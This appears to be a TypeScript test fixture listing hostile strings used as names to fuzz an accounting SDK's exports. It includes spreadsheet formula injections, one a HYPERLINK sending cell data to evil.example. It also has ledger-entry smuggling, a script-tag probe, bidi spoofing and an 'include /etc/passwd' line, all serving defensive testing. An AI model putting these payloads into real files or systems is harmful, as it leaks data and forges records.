import type { Titles } from "../../sdk/src/exports/context.ts";

/** Texts that somebody could write who wants to do harm. */
export const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "\t=1+1",
  "\r\n=1+1",
  "＝1+1",
  "\u202e=1+1",
  'Oven "door", 2',
  'a"\n2026-01-01 * "x"\n  Assets:Treasury:GeneralFund  1.00 EUR',
  "a\\",
  'a\\"',
  "a\n2026/01/01 x\n    Assets:A    1\n    Assets:B",
  "a  ; x:: 1/0",
  "a ; [2020/01/01]",
  "[=2020/01/01]",
  "[2020/01/01" + "9".repeat(400) + "]",
  ":tag: key:: (1/0)",
  "a | b  = c",
  "nul\0nul",
  "\u202egnp.exe\u202c \u200b\ufeff",
  "👩‍👩‍👧‍👦 🍞 ✊🏽",
  "Zoë’s café, Müller & Söhne <script>alert(1)</script>",
  "\ud800 half a character",
  "",
  "   ",
  "x".repeat(10_000),
  "🍞".repeat(10_000),
  "include /etc/passwd",
  "!include",
  "TRUE",
  "NULL",
  "R",
  "1INCH",
  "EUR-2",
] as const;

/** One of them. */
export const hostile = (number: bigint): string => HOSTILE[Number(number) % HOSTILE.length]!;
/** Everything is called something harmful. */
export const titles: Titles = {
  bucket: hostile,
  round: hostile,
  fund: hostile,
  member: hostile,
  wallet: (holder) => hostile(BigInt(holder)),
};
